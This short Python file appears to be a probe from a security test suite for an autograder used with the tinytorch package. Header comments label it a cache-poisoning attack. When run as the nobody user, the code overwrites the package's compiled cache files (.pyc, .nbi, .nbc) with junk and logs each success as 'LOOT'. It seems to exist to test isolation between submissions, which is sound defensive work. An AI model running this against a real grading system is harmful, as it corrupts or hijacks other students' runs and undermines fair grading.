# base: garbage
# Compiled caches (Numba's, Python's, matplotlib's) that others may load are replaced.
# class: files
# gains: code of the student's in the next submission's process
# ends: graded
# safe_in_process: no

# %% last
import os
from pathlib import Path

import tinytorch

if os.getuid() == 65534:
    core = Path(tinytorch.__file__).parent / "core"
    for path in [*core.rglob("*.nbi"), *core.rglob("*.nbc"), *core.rglob("*.pyc")]:
        try:
            path.write_bytes(b"poison")
            print("LOOT wrote to", path)
        except OSError:
            pass
